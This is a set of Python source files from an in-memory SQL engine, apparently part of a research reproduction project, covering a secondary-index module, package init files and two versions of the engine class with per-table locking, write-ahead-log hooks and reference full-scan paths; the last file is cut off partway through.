satisfy the predicate, and the executor always re-checks the full WHERE
clause against each candidate row.  That split keeps the correctness
argument local — the only property an index must uphold is *completeness*
(no false negatives); false positives cost a predicate re-evaluation and
nothing else.  Completeness is subtle because the engine's comparison
semantics (:func:`repro.sql.executor._coerce_pair`) are not transitive:

* numeric cell vs numeric probe compares exactly (``2 == 2.0``);
* numeric vs string tries ``float`` on both, falling back to ``str`` on
  both when the string does not parse;
* string vs string always compares as strings (``"1" != "1.0"``).

So one column value participates in up to three key families, by *origin*:

``_eq_num`` / ``_ord_num``
    numeric cells keyed by ``float(value)`` (non-NaN);
``_eq_numstr`` / ``_ord_numstr``
    string cells that parse as a float, keyed by that float — matched only
    by *numeric* probes (a string probe compares to them as a string);
``_eq_str`` / ``_ord_str``
    every string cell keyed by its exact text;
``_ord_numlex``
    numeric cells keyed by ``str(value)`` — the lexicographic fallback an
    *unparseable string* bound compares them under.

NULL cells are indexed nowhere (they match no predicate), NaN keys are
excluded from the float families (NaN compares false to everything), and
integers too large for ``float`` are clamped to ``±inf`` — the clamp is
monotone, so inclusive candidate ranges stay supersets and the executor's
exact re-check trims the boundary.

Maintenance runs inside the owning table's lock scope: inserts append
incrementally (positions only grow), UPDATE rebuilds the indexes whose
column was assigned, DELETE compacts row positions and rebuilds everything
on the table — the same O(n) as the delete itself.
"""

from __future__ import annotations

import bisect
from typing import Any, Dict, List, Optional, Sequence

from ..core.exceptions import SQLError

__all__ = ["SecondaryIndex", "INDEX_KINDS", "UNBOUNDED"]

#: Supported index kinds: ``hash`` answers equality probes only, ``sorted``
#: answers equality and range probes.
INDEX_KINDS = ("hash", "sorted")

_UNBOUNDED = object()


def _float_key(value: Any) -> Optional[float]:
    """``float(value)`` for keying, ``None`` when the value can never match
    a float comparison (NaN), ``±inf`` for out-of-range integers."""
    try:
        key = float(value)
    except OverflowError:
        return float("inf") if value > 0 else float("-inf")
    if key != key:  # NaN
        return None
    return key


def _parse_float(text: str) -> Optional[float]:
    """The float a string coerces to under ``_coerce_pair``, or ``None``
    when it does not parse (or parses to NaN, which matches nothing)."""
    try:
        key = float(text)
    except (TypeError, ValueError):
        return None
    if key != key:
        return None
    return key


class SecondaryIndex:
    """One secondary index over a single column of one table."""

    __slots__ = (
        "name",
        "table",
        "column",
        "kind",
        "_eq_num",
        "_eq_numstr",
        "_eq_str",
        "_ord_num",
        "_ord_numstr",
        "_ord_str",
        "_ord_numlex",
    )

    def __init__(self, name: str, table: str, column: str, kind: str = "sorted"):
        if kind not in INDEX_KINDS:
            raise SQLError(f"unknown index kind {kind!r} (use 'hash' or 'sorted')")
        self.name = str(name)
        self.table = str(table)
        self.column = str(column)
        self.kind = kind
        self._eq_num: Dict[float, List[int]] = {}
        self._eq_numstr: Dict[float, List[int]] = {}
        self._eq_str: Dict[str, List[int]] = {}
        # Sorted (key, position) pairs; only maintained for kind="sorted".
        self._ord_num: List[tuple] = []
        self._ord_numstr: List[tuple] = []
        self._ord_str: List[tuple] = []
        self._ord_numlex: List[tuple] = []

    def __repr__(self) -> str:
        return (
            f"SecondaryIndex({self.name!r}, {self.table}.{self.column}, "
            f"{self.kind})"
        )

    # -- maintenance ----------------------------------------------------------

    def rebuild(self, rows: Sequence[Dict[str, Any]]) -> None:
        """Rebuild from scratch over ``rows`` (list order = row position)."""
        self._eq_num = {}
        self._eq_numstr = {}
        self._eq_str = {}
        self._ord_num = []
        self._ord_numstr = []
        self._ord_str = []
        self._ord_numlex = []
        column = self.column
        for position, row in enumerate(rows):
            self._add(position, row.get(column))
        if self.kind == "sorted":
            self._ord_num.sort()
            self._ord_numstr.sort()
            self._ord_str.sort()
            self._ord_numlex.sort()

    def add_row(self, position: int, row: Dict[str, Any]) -> None:
        """Incremental insert (positions only ever grow on INSERT)."""
        self._add(position, row.get(self.column), incremental=True)

    def _add(self, position: int, value: Any, incremental: bool = False) -> None:
        if value is None:
            return
        sorted_kind = self.kind == "sorted"

        def _ord(array: List[tuple], key) -> None:
            if not sorted_kind:
                return
            if incremental:
                bisect.insort(array, (key, position))
            else:
                array.append((key, position))

        if isinstance(value, (int, float)):
            key = _float_key(value)
            if key is not None:
                self._eq_num.setdefault(key, []).append(position)
                _ord(self._ord_num, key)
            _ord(self._ord_numlex, str(value))
        else:
            text = str(value)
            self._eq_str.setdefault(text, []).append(position)
            _ord(self._ord_str, text)
            key = _parse_float(text)
            if key is not None:
                self._eq_numstr.setdefault(key, []).append(position)
                _ord(self._ord_numstr, key)

    # -- lookups --------------------------------------------------------------

    def lookup_eq(self, probes: Sequence[Any]) -> List[int]:
        """Sorted candidate positions for ``column = probe`` (any probe)."""
        candidates: set = set()
        for probe in probes:
            if probe is None:
                continue
            if isinstance(probe, (int, float)):
                key = _float_key(probe)
                if key is None:
                    continue
                candidates.update(self._eq_num.get(key, ()))
                candidates.update(self._eq_numstr.get(key, ()))
            else:
                text = str(probe)
                candidates.update(self._eq_str.get(text, ()))
                key = _parse_float(text)
                if key is not None:
                    candidates.update(self._eq_num.get(key, ()))
        return sorted(candidates)

    def lookup_range(self, lo: Any = _UNBOUNDED, hi: Any = _UNBOUNDED) -> List[int]:
        """Sorted candidate positions for ``lo <= column <= hi`` (inclusive
        on both ends — the executor's re-check applies the real operators).

        Pass :data:`UNBOUNDED` (the default) to leave a side open.  A bound
        of ``None`` (SQL NULL) makes the predicate universally false."""
        if self.kind != "sorted":
            raise SQLError(
                f"index {self.name} is a hash index; range scans need a sorted index"
            )
        if lo is None or hi is None:
            return []
        if lo is _UNBOUNDED and hi is _UNBOUNDED:
            return sorted(
                position
                for family in (self._ord_num, self._ord_str)
                for _, position in family
            )
        if lo is not _UNBOUNDED and hi is not _UNBOUNDED:
            low = self._bound_candidates(lo, "lo")
            return sorted(low & self._bound_candidates(hi, "hi"))
        if lo is not _UNBOUNDED:
            return sorted(self._bound_candidates(lo, "lo"))
        return sorted(self._bound_candidates(hi, "hi"))

    def _bound_candidates(self, bound: Any, side: str) -> set:
        """Positions that can satisfy a one-sided inclusive bound."""
        candidates: set = set()
        if isinstance(bound, (int, float)):
            key = _float_key(bound)
            if key is not None:
                # Numeric cells and parseable-string cells compare as floats.
                candidates.update(self._slice(self._ord_num, key, side))
                candidates.update(self._slice(self._ord_numstr, key, side))
            # Unparseable string cells fall back to a lexicographic
            # comparison against str(bound); over-covering the parseable
            # strings here is harmless.
            candidates.update(self._slice(self._ord_str, str(bound), side))
        else:
            text = str(bound)
            candidates.update(self._slice(self._ord_str, text, side))
            key = _parse_float(text)
            if key is not None:
                # Numeric cells compare as floats to a parseable string.
                candidates.update(self._slice(self._ord_num, key, side))
            else:
                # ... and lexicographically (via str(cell)) otherwise.
                candidates.update(self._slice(self._ord_numlex, text, side))
        return candidates

    @staticmethod
    def _slice(array: List[tuple], key, side: str):
        if side == "lo":
            start = bisect.bisect_left(array, (key, -1))
            selected = array[start:]
        else:
            stop = bisect.bisect_right(array, (key, float("inf")))
            selected = array[:stop]
        return (position for _, position in selected)


#: Sentinel for an open side of :meth:`SecondaryIndex.lookup_range`.
UNBOUNDED = _UNBOUNDED
