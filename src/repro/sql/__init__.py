"""SQL substrate: tokenizer, parser, AST and in-memory execution engine."""

from . import nodes
from .engine import Engine, Result, Row, Table
from .parser import Parser, parse
from .tokenizer import Token, tokenize

__all__ = ["nodes", "Engine", "Result", "Row", "Table", "Parser", "parse",
           "Token", "tokenize"]
