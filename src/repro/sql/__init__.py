"""SQL substrate: tokenizer, parser, planner, executor and secondary
indexes over the in-memory engine."""

from . import nodes
from .engine import Engine, Result, Row, Table
from .executor import Executor
from .indexes import SecondaryIndex
from .parser import Parser, parse
from .planner import Plan, Planner, bind_parameters, collect_params
from .tokenizer import Token, tokenize

__all__ = [
    "nodes",
    "Engine",
    "Result",
    "Row",
    "Table",
    "Parser",
    "parse",
    "Token",
    "tokenize",
    "Plan",
    "Planner",
    "Executor",
    "SecondaryIndex",
    "bind_parameters",
    "collect_params",
]
