"""In-memory SQL engine.

Executes the AST produced by :mod:`repro.sql.parser` against in-memory
tables.  The engine itself is policy-agnostic: values stored in cells may be
tainted strings/numbers and are returned as stored.  Policy persistence
across the database (the paper's policy columns, Figure 4) is implemented one
layer up, in :class:`repro.channels.sqlchan.Database`.
"""

from __future__ import annotations

import contextlib
import warnings
from typing import Any, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

from ..core.exceptions import SQLError
from ..core.locking import OrderedLockRegistry
from . import nodes
from .executor import (
    Executor,
    coerce_pair,
    evaluate,
    evaluate_aggregate,
    sort_key,
    sql_equal,
    sql_like,
    stored_value,
)
from .indexes import SecondaryIndex
from .parser import parse
from .planner import Planner


class Row(dict):
    """A result row: a dict that also supports positional access."""

    def __init__(self, columns: Sequence[str], values: Sequence[Any]):
        super().__init__(zip(columns, values))
        self.columns = list(columns)

    def __getitem__(self, key):
        if isinstance(key, int):
            return super().__getitem__(self.columns[key])
        return super().__getitem__(key)

    def values_list(self) -> List[Any]:
        return [super(Row, self).__getitem__(col) for col in self.columns]


class Result:
    """Result of executing a statement."""

    def __init__(
        self,
        columns: Sequence[str] = (),
        rows: Iterable[Sequence[Any]] = (),
        rowcount: int = 0,
    ):
        self.columns = list(columns)
        self.rows: List[Row] = [
            row if isinstance(row, Row) else Row(self.columns, row)
            for row in rows]
        self.rowcount = rowcount if rowcount else len(self.rows)

    def scalar(self) -> Any:
        """First column of the first row (or None)."""
        if not self.rows or not self.columns:
            return None
        return self.rows[0][self.columns[0]]

    def __iter__(self):
        return iter(self.rows)

    def __len__(self) -> int:
        return len(self.rows)

    def __repr__(self) -> str:
        return f"Result(columns={self.columns}, rows={len(self.rows)})"


class Table:
    """One table: column definitions plus a list of row dicts."""

    def __init__(self, name: str, columns: Sequence[nodes.ColumnDef]):
        self.name = name
        self.columns = list(columns)
        self.column_names = [c.name for c in self.columns]
        self.rows: List[Dict[str, Any]] = []
        #: Secondary indexes by name, maintained inside this table's lock
        #: scope by the engine's mutation paths.
        self.indexes: Dict[str, SecondaryIndex] = {}

    def has_column(self, name: str) -> bool:
        return name in self.column_names

    def add_column(self, column: nodes.ColumnDef) -> None:
        if self.has_column(column.name):
            return
        self.columns.append(column)
        self.column_names.append(column.name)
        for row in self.rows:
            row.setdefault(column.name, None)


class Engine:
    """The in-memory database engine.

    The engine is shared by every request of an environment.  Locking is
    **per table**: each table name owns a reentrant lock
    (:meth:`table_lock`), so statements against independent tables execute
    concurrently and only statements touching the *same* table serialize.
    A short-lived :attr:`catalog_lock` guards the table directory itself
    (``CREATE`` / ``DROP`` and lock creation).

    Lock-ordering rule: multiple table locks are always acquired in
    sorted-name order (:meth:`locked` does this for you), and the catalog
    lock is *innermost* — taken last, held only across the directory
    mutation, and never while waiting for a table lock.  Following the rule
    everywhere makes deadlock impossible;
    :class:`repro.channels.sqlchan.Database` uses :meth:`locked` to hold a
    statement's tables across the multi-step read-modify-write sequences of
    policy persistence.
    """

    def __init__(self):
        self.tables: Dict[str, Table] = {}
        #: Optional :class:`repro.storage.durability.Durability` sink.  When
        #: set, every mutation runs under the durability gate and logs its
        #: physical effect (row images, not statements) to the WAL.
        self.durability = None
        #: The shared ordered-lock machinery (same as the filesystem's
        #: per-subtree locks): one reentrant lock per table name,
        #: sorted-order multi-acquisition, fail-fast ordering violations.
        self._locking = OrderedLockRegistry(
            noun="table",
            error=SQLError,
            hint="name every table the compound operation touches in its "
            "outermost locked()/transaction() call",
        )
        #: Guards :attr:`tables` (the directory, not the rows) and the lock
        #: registry.  Short-lived and innermost: held only while
        #: creating/dropping a table or materializing a table lock, never
        #: across statement execution.
        self.catalog_lock = self._locking.registry_lock
        #: The planner/executor pair behind :meth:`run`.  Plans are rebuilt
        #: per execution (planning is a few conjunct inspections), so index
        #: and schema changes can never leave a stale plan behind.
        self.planner = Planner(self)
        self.executor = Executor(self)

    # -- locking ----------------------------------------------------------------

    def table_lock(self, name: str):
        """The lock serializing access to table ``name`` (created on demand,
        stable across DROP/CREATE of the same name)."""
        return self._locking.lock(str(name))

    @contextlib.contextmanager
    def locked(self, *names: str) -> Iterator["Engine"]:
        """Hold the locks of every table in ``names`` (sorted-name order).

        This is the engine's multi-table critical section: acquiring in
        deterministic order means two callers locking overlapping table sets
        can never deadlock.  Reentrant per thread, so statements executed
        inside the block re-acquire their table's lock harmlessly.

        Nested ``locked`` calls may only *add* tables that sort after every
        table already held (re-acquiring held tables is always fine) — a
        nested acquisition that sorts earlier would break the global
        ordering and could deadlock against another thread, so it raises
        :class:`~repro.core.exceptions.SQLError` immediately instead.  Name
        every table a compound operation touches in its outermost
        ``locked``/``transaction`` call.
        """
        with self._locking.locked(*(str(name) for name in names)):
            yield self

    @staticmethod
    def statement_tables(statement) -> Tuple[str, ...]:
        """The table names ``statement`` touches (empty for table-less
        SELECTs).  The dialect is single-table, so this is () or a 1-tuple."""
        table = getattr(statement, "table", None)
        return () if table is None else (str(table),)

    # -- durability hooks --------------------------------------------------------

    def _durable(self):
        """The gate a mutate-and-log pair runs under (no-op when the engine
        is not durable).  Acquired *before* the table lock — the ordering
        the durability gate's deadlock-freedom argument relies on — and
        reentrant, so the SQL channel's enclosing gate nests harmlessly."""
        sink = self.durability
        return sink.mutation() if sink is not None else contextlib.nullcontext()

    def _log(self, record: Dict[str, Any]) -> None:
        sink = self.durability
        if sink is not None:
            sink.log(record)

    def _commit_durable(self) -> None:
        """Group-commit the records this statement logged.  Called after the
        table lock is released, so the fsync never extends lock hold time;
        inside an enclosing durable scope (the SQL channel's) it defers to
        that scope's commit."""
        sink = self.durability
        if sink is not None:
            sink.commit()

    @staticmethod
    def _encode_cell(value: Any) -> Any:
        from ..storage.wal import encode_value
        return encode_value(value)

    def _log_rows(self, op: str, table: Table, payload: Dict[str, Any]) -> None:
        """Log a row-level mutation record carrying the table's full column
        list of this moment, so replay materializes lazily-added policy
        columns exactly as the live path did."""
        record = {"op": op, "table": table.name, "columns": list(table.column_names)}
        record.update(payload)
        self._log(record)

    # -- public API -------------------------------------------------------------

    def run(self, statement) -> Result:
        """Execute a SQL string or a parsed statement (plan + execute)."""
        if isinstance(statement, str):
            statement = parse(statement)
        if isinstance(statement, nodes.Explain):
            return self._explain(statement.statement)
        if isinstance(statement, nodes.Select):
            if statement.table is None:
                return self._select(statement)
            with self.locked(statement.table):
                return self._select(statement)
        result = self._execute_mutation(statement)
        self._commit_durable()
        return result

    def execute(self, statement) -> Result:
        """Deprecated alias of :meth:`run` (the pre-plan-API entry point)."""
        warnings.warn(
            "Engine.execute() is deprecated; use Engine.run() (or "
            "Database.query() for filtered, policy-persisting access)",
            DeprecationWarning, stacklevel=2)
        return self.run(statement)

    def plan(self, statement):
        """The plan :meth:`run` would execute for ``statement`` (parsed on
        demand; callers wanting a stable snapshot of index choices should
        hold the table's lock, as :meth:`explain_lines` does)."""
        if isinstance(statement, str):
            statement = parse(statement)
        return self.planner.plan(statement)

    def explain_lines(self, statement) -> List[str]:
        """The EXPLAIN text for ``statement``, one line per plan node."""
        if isinstance(statement, str):
            statement = parse(statement)
        if isinstance(statement, nodes.Explain):
            statement = statement.statement
        tables = self.statement_tables(statement)
        with self.locked(*tables):
            return self.planner.plan(statement).explain()

    def _explain(self, statement) -> Result:
        return Result(["plan"], [[line] for line in self.explain_lines(statement)])

    def _execute_mutation(self, statement) -> Result:
        if isinstance(statement, nodes.CreateIndex):
            with self._durable():
                with self.locked(statement.table):
                    return self._create_index(statement)
        if isinstance(statement, nodes.DropIndex):
            return self._drop_index(statement)
        if isinstance(statement, nodes.CreateTable):
            with self._durable():
                with self.locked(statement.table), self.catalog_lock:
                    return self._create(statement)
        if isinstance(statement, nodes.DropTable):
            with self._durable():
                with self.locked(statement.table), self.catalog_lock:
                    return self._drop(statement)
        if isinstance(statement, nodes.Insert):
            with self._durable():
                with self.locked(statement.table):
                    return self._insert(statement)
        if isinstance(statement, nodes.Update):
            with self._durable():
                with self.locked(statement.table):
                    return self._update(statement)
        if isinstance(statement, nodes.Delete):
            with self._durable():
                with self.locked(statement.table):
                    return self._delete(statement)
        raise SQLError(f"cannot execute {type(statement).__name__}")

    def table(self, name: str) -> Table:
        # Lock-free directory *read*: dict lookups are atomic under the GIL
        # and every mutation of ``self.tables`` happens under the catalog
        # lock.  Taking the catalog lock here would invert the
        # catalog-before-table ordering for callers that already hold a
        # table lock (e.g. Database's compound statements).
        try:
            return self.tables[name]
        except KeyError:
            raise SQLError(f"no such table: {name}") from None

    # -- statement execution ---------------------------------------------------------

    def _create(self, stmt: nodes.CreateTable) -> Result:
        if stmt.table in self.tables:
            if stmt.if_not_exists:
                return Result()
            raise SQLError(f"table {stmt.table} already exists")
        table = Table(stmt.table, stmt.columns)
        self.tables[stmt.table] = table
        self._log(
            {
                "op": "sql.create",
                "table": table.name,
                "columns": [
                    [c.name, c.type, list(c.constraints)] for c in table.columns
                ],
            }
        )
        return Result()

    def _drop(self, stmt: nodes.DropTable) -> Result:
        if stmt.table not in self.tables:
            if stmt.if_exists:
                return Result()
            raise SQLError(f"no such table: {stmt.table}")
        del self.tables[stmt.table]
        self._log({"op": "sql.drop", "table": stmt.table})
        return Result()

    # -- secondary indexes ------------------------------------------------------

    def create_index(
        self,
        table: str,
        column: str,
        kind: str = "sorted",
        name: Optional[str] = None,
        if_not_exists: bool = True,
    ) -> Result:
        """Declare (and immediately build) a secondary index — the Python
        spelling of ``CREATE INDEX``, durable like any other mutation."""
        if name is None:
            name = f"idx_{table}_{column}"
        return self.run(nodes.CreateIndex(name, table, column, kind, if_not_exists))

    def _create_index(self, stmt: nodes.CreateIndex) -> Result:
        table = self.table(stmt.table)
        if stmt.name in table.indexes:
            if stmt.if_not_exists:
                return Result()
            raise SQLError(f"index {stmt.name} already exists on {table.name}")
        if not table.has_column(stmt.column):
            raise SQLError(
                f"table {table.name} has no column {stmt.column!r}")
        index = SecondaryIndex(stmt.name, table.name, stmt.column, stmt.kind)
        index.rebuild(table.rows)
        table.indexes[stmt.name] = index
        # Definition only: recovery rebuilds the index from the replayed
        # rows, so the WAL never carries index payloads.
        self._log(
            {
                "op": "sql.create_index",
                "table": table.name,
                "index": index.name,
                "column": index.column,
                "kind": index.kind,
            }
        )
        return Result()

    def _drop_index(self, stmt: nodes.DropIndex) -> Result:
        owner = self._index_owner(stmt.name)
        if owner is None:
            if stmt.if_exists:
                return Result()
            raise SQLError(f"no such index: {stmt.name}")
        with self._durable():
            with self.locked(owner):
                table = self.tables.get(owner)
                if table is None or stmt.name not in table.indexes:
                    if stmt.if_exists:
                        return Result()
                    raise SQLError(f"no such index: {stmt.name}")
                del table.indexes[stmt.name]
                self._log({"op": "sql.drop_index", "table": owner, "index": stmt.name})
        return Result()

    def _index_owner(self, name: str) -> Optional[str]:
        for table in list(self.tables.values()):
            if name in table.indexes:
                return table.name
        return None

    def _maintain_on_insert(self, table: Table, first_position: int,
                            new_rows: List[Dict[str, Any]]) -> None:
        if not table.indexes:
            return
        for offset, row in enumerate(new_rows):
            position = first_position + offset
            for index in table.indexes.values():
                index.add_row(position, row)

    def _maintain_on_update(self, table: Table,
                            assigned: Iterable[str]) -> None:
        if not table.indexes:
            return
        assigned = set(assigned)
        for index in table.indexes.values():
            if index.column in assigned:
                index.rebuild(table.rows)

    def _maintain_on_delete(self, table: Table) -> None:
        # Deleting compacts row positions, so every index must renumber;
        # the rebuild is the same O(n) as the delete itself.
        for index in table.indexes.values():
            index.rebuild(table.rows)

    def _insert(self, stmt: nodes.Insert) -> Result:
        table = self.table(stmt.table)
        for column in stmt.columns:
            if not table.has_column(column):
                raise SQLError(
                    f"table {table.name} has no column {column!r}")
        new_rows: List[Dict[str, Any]] = []
        for row_exprs in stmt.rows:
            row = {name: None for name in table.column_names}
            for column, expr in zip(stmt.columns, row_exprs):
                row[column] = _stored_value(self._evaluate(expr, None, table))
            table.rows.append(row)
            new_rows.append(row)
        self._maintain_on_insert(table, len(table.rows) - len(new_rows), new_rows)
        if new_rows and self.durability is not None:
            self._log_rows("sql.insert", table, {"rows": [
                [self._encode_cell(row[name]) for name in table.column_names]
                for row in new_rows]})
        return Result(rowcount=len(new_rows))

    def _select(self, stmt: nodes.Select) -> Result:
        """Plan and execute a SELECT (caller holds the table's lock)."""
        return self.executor.execute(self.planner.plan_select(stmt))

    def _select_reference(self, stmt: nodes.Select) -> Result:
        """The retained naive full-scan SELECT path.

        Kept verbatim from the pre-planner engine as the oracle for the
        plan-vs-naive differential tests: it shares every comparison and
        evaluation helper with the executor, so any row-set divergence is a
        planner/index bug by construction.  Not used on the hot path.
        """
        if stmt.table is None:
            # SELECT without FROM: evaluate items against an empty row.
            columns = [item.output_name for item in stmt.items]
            values = [self._evaluate(item.expr, {}, None) for item in stmt.items]
            return Result(columns, [values])

        table = self.table(stmt.table)
        matching = [row for row in table.rows if self._matches(stmt.where, row, table)]

        if self._is_aggregate_select(stmt):
            columns = [item.output_name for item in stmt.items]
            values = [
                self._evaluate_aggregate(item.expr, matching, table)
                for item in stmt.items
            ]
            return Result(columns, [values])

        for ordering in reversed(stmt.order_by):
            matching = sorted(
                matching,
                key=lambda row: _sort_key(
                    self._evaluate(ordering.expr, row, table)),
                reverse=ordering.descending)

        if stmt.offset:
            matching = matching[stmt.offset:]
        if stmt.limit is not None:
            matching = matching[:stmt.limit]

        columns: List[str] = []
        for item in stmt.items:
            if isinstance(item.expr, nodes.Star):
                columns.extend(table.column_names)
            else:
                columns.append(item.output_name)

        result_rows: List[List[Any]] = []
        seen = set()
        for row in matching:
            values: List[Any] = []
            for item in stmt.items:
                if isinstance(item.expr, nodes.Star):
                    values.extend(row[name] for name in table.column_names)
                else:
                    values.append(self._evaluate(item.expr, row, table))
            if stmt.distinct:
                key = tuple(str(v) for v in values)
                if key in seen:
                    continue
                seen.add(key)
            result_rows.append(values)
        return Result(columns, result_rows)

    def _update(self, stmt: nodes.Update) -> Result:
        table = self.table(stmt.table)
        for column, _ in stmt.assignments:
            if not table.has_column(column):
                raise SQLError(
                    f"table {table.name} has no column {column!r}")
        # Collect matching positions through the planned (possibly
        # index-driven) scan, then mutate.  Each row's match depends only
        # on its own pre-update values, so collect-then-mutate is
        # equivalent to the reference path's mutate-as-you-scan.
        source = self.planner.plan(stmt).source
        matches = list(self.executor.scan(source))
        touched: List[int] = []
        for position, row in matches:
            for column, expr in stmt.assignments:
                row[column] = _stored_value(
                    self._evaluate(expr, row, table))
            touched.append(position)
        if touched:
            self._maintain_on_update(table, (column for column, _ in stmt.assignments))
        if touched and self.durability is not None:
            # Full row images, not expressions: replay is exact regardless
            # of what the SET expressions computed from.
            self._log_rows(
                "sql.update",
                table,
                {
                    "updates": [
                        [
                            index,
                            [
                                self._encode_cell(table.rows[index][name])
                                for name in table.column_names
                            ],
                        ]
                        for index in touched
                    ]
                },
            )
        return Result(rowcount=len(touched))

    def _update_reference(self, stmt: nodes.Update) -> Result:
        """The retained naive full-scan UPDATE (differential oracle)."""
        table = self.table(stmt.table)
        for column, _ in stmt.assignments:
            if not table.has_column(column):
                raise SQLError(
                    f"table {table.name} has no column {column!r}")
        touched: List[int] = []
        for index, row in enumerate(table.rows):
            if self._matches(stmt.where, row, table):
                for column, expr in stmt.assignments:
                    row[column] = _stored_value(
                        self._evaluate(expr, row, table))
                touched.append(index)
        if touched:
            self._maintain_on_update(table, (column for column, _ in stmt.assignments))
        if touched and self.durability is not None:
            self._log_rows(
                "sql.update",
                table,
                {
                    "updates": [
                        [
                            index,
                            [
                                self._encode_cell(table.rows[index][name])
                                for name in table.column_names
                            ],
                        ]
                        for index in touched
                    ]
                },
            )
        return Result(rowcount=len(touched))

    def _delete(self, stmt: nodes.Delete) -> Result:
        table = self.table(stmt.table)
        source = self.planner.plan(stmt).source
        doomed = [position for position, _ in self.executor.scan(source)]
        if doomed:
            doomed_set = set(doomed)
            table.rows = [
                row
                for position, row in enumerate(table.rows)
                if position not in doomed_set
            ]
            self._maintain_on_delete(table)
        if doomed and self.durability is not None:
            self._log_rows("sql.delete", table, {"indices": doomed})
        return Result(rowcount=len(doomed))

    def _delete_reference(self, stmt: nodes.Delete) -> Result:
        """The retained naive full-scan DELETE (differential oracle)."""
        table = self.table(stmt.table)
        keep: List[Dict[str, Any]] = []
        doomed: List[int] = []
        for index, row in enumerate(table.rows):
            if self._matches(stmt.where, row, table):
                doomed.append(index)
            else:
                keep.append(row)
        table.rows = keep
        if doomed:
            self._maintain_on_delete(table)
        if doomed and self.durability is not None:
            self._log_rows("sql.delete", table, {"indices": doomed})
        return Result(rowcount=len(doomed))

    # -- expression evaluation ----------------------------------------------

    def _matches(
        self, where: Optional[nodes.Expr], row: Dict[str, Any], table: Table
    ) -> bool:
        if where is None:
            return True
        return bool(self._evaluate(where, row, table))

    def _is_aggregate_select(self, stmt: nodes.Select) -> bool:
        return any(
            isinstance(item.expr, nodes.FuncCall)
            and item.expr.name in ("count", "min", "max", "sum", "avg")
            for item in stmt.items
        )

    def _evaluate_aggregate(
        self, expr: nodes.Expr, rows: List[Dict[str, Any]], table: Table
    ) -> Any:
        return evaluate_aggregate(expr, rows, table)

    def _evaluate(
        self, expr: nodes.Expr, row: Optional[Dict[str, Any]], table: Optional[Table]
    ) -> Any:
        return evaluate(expr, row, table)


# Back-compat aliases: the canonical comparison/evaluation helpers moved to
# :mod:`repro.sql.executor` with the parser → planner → executor split.
_stored_value = stored_value
_coerce_pair = coerce_pair
_sql_equal = sql_equal
_sql_like = sql_like
_sort_key = sort_key
