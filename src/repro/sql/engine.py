"""In-memory SQL engine.

Executes the AST produced by :mod:`repro.sql.parser` against in-memory
tables.  The engine itself is policy-agnostic: values stored in cells may be
tainted strings/numbers and are returned as stored.  Policy persistence
across the database (the paper's policy columns, Figure 4) is implemented one
layer up, in :class:`repro.channels.sqlchan.Database`.
"""

from __future__ import annotations

import contextlib
import re
from typing import Any, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

from ..core.exceptions import SQLError
from ..core.locking import OrderedLockRegistry
from . import nodes
from .parser import parse


class Row(dict):
    """A result row: a dict that also supports positional access."""

    def __init__(self, columns: Sequence[str], values: Sequence[Any]):
        super().__init__(zip(columns, values))
        self.columns = list(columns)

    def __getitem__(self, key):
        if isinstance(key, int):
            return super().__getitem__(self.columns[key])
        return super().__getitem__(key)

    def values_list(self) -> List[Any]:
        return [super(Row, self).__getitem__(col) for col in self.columns]


class Result:
    """Result of executing a statement."""

    def __init__(self, columns: Sequence[str] = (),
                 rows: Iterable[Sequence[Any]] = (),
                 rowcount: int = 0):
        self.columns = list(columns)
        self.rows: List[Row] = [
            row if isinstance(row, Row) else Row(self.columns, row)
            for row in rows]
        self.rowcount = rowcount if rowcount else len(self.rows)

    def scalar(self) -> Any:
        """First column of the first row (or None)."""
        if not self.rows or not self.columns:
            return None
        return self.rows[0][self.columns[0]]

    def __iter__(self):
        return iter(self.rows)

    def __len__(self) -> int:
        return len(self.rows)

    def __repr__(self) -> str:
        return f"Result(columns={self.columns}, rows={len(self.rows)})"


class Table:
    """One table: column definitions plus a list of row dicts."""

    def __init__(self, name: str, columns: Sequence[nodes.ColumnDef]):
        self.name = name
        self.columns = list(columns)
        self.column_names = [c.name for c in self.columns]
        self.rows: List[Dict[str, Any]] = []

    def has_column(self, name: str) -> bool:
        return name in self.column_names

    def add_column(self, column: nodes.ColumnDef) -> None:
        if self.has_column(column.name):
            return
        self.columns.append(column)
        self.column_names.append(column.name)
        for row in self.rows:
            row.setdefault(column.name, None)


class Engine:
    """The in-memory database engine.

    The engine is shared by every request of an environment.  Locking is
    **per table**: each table name owns a reentrant lock
    (:meth:`table_lock`), so statements against independent tables execute
    concurrently and only statements touching the *same* table serialize.
    A short-lived :attr:`catalog_lock` guards the table directory itself
    (``CREATE`` / ``DROP`` and lock creation).

    Lock-ordering rule: multiple table locks are always acquired in
    sorted-name order (:meth:`locked` does this for you), and the catalog
    lock is *innermost* — taken last, held only across the directory
    mutation, and never while waiting for a table lock.  Following the rule
    everywhere makes deadlock impossible;
    :class:`repro.channels.sqlchan.Database` uses :meth:`locked` to hold a
    statement's tables across the multi-step read-modify-write sequences of
    policy persistence.
    """

    def __init__(self):
        self.tables: Dict[str, Table] = {}
        #: Optional :class:`repro.storage.durability.Durability` sink.  When
        #: set, every mutation runs under the durability gate and logs its
        #: physical effect (row images, not statements) to the WAL.
        self.durability = None
        #: The shared ordered-lock machinery (same as the filesystem's
        #: per-subtree locks): one reentrant lock per table name,
        #: sorted-order multi-acquisition, fail-fast ordering violations.
        self._locking = OrderedLockRegistry(
            noun="table", error=SQLError,
            hint="name every table the compound operation touches in its "
                 "outermost locked()/transaction() call")
        #: Guards :attr:`tables` (the directory, not the rows) and the lock
        #: registry.  Short-lived and innermost: held only while
        #: creating/dropping a table or materializing a table lock, never
        #: across statement execution.
        self.catalog_lock = self._locking.registry_lock

    # -- locking ----------------------------------------------------------------

    def table_lock(self, name: str):
        """The lock serializing access to table ``name`` (created on demand,
        stable across DROP/CREATE of the same name)."""
        return self._locking.lock(str(name))

    @contextlib.contextmanager
    def locked(self, *names: str) -> Iterator["Engine"]:
        """Hold the locks of every table in ``names`` (sorted-name order).

        This is the engine's multi-table critical section: acquiring in
        deterministic order means two callers locking overlapping table sets
        can never deadlock.  Reentrant per thread, so statements executed
        inside the block re-acquire their table's lock harmlessly.

        Nested ``locked`` calls may only *add* tables that sort after every
        table already held (re-acquiring held tables is always fine) — a
        nested acquisition that sorts earlier would break the global
        ordering and could deadlock against another thread, so it raises
        :class:`~repro.core.exceptions.SQLError` immediately instead.  Name
        every table a compound operation touches in its outermost
        ``locked``/``transaction`` call.
        """
        with self._locking.locked(*(str(name) for name in names)):
            yield self

    @staticmethod
    def statement_tables(statement) -> Tuple[str, ...]:
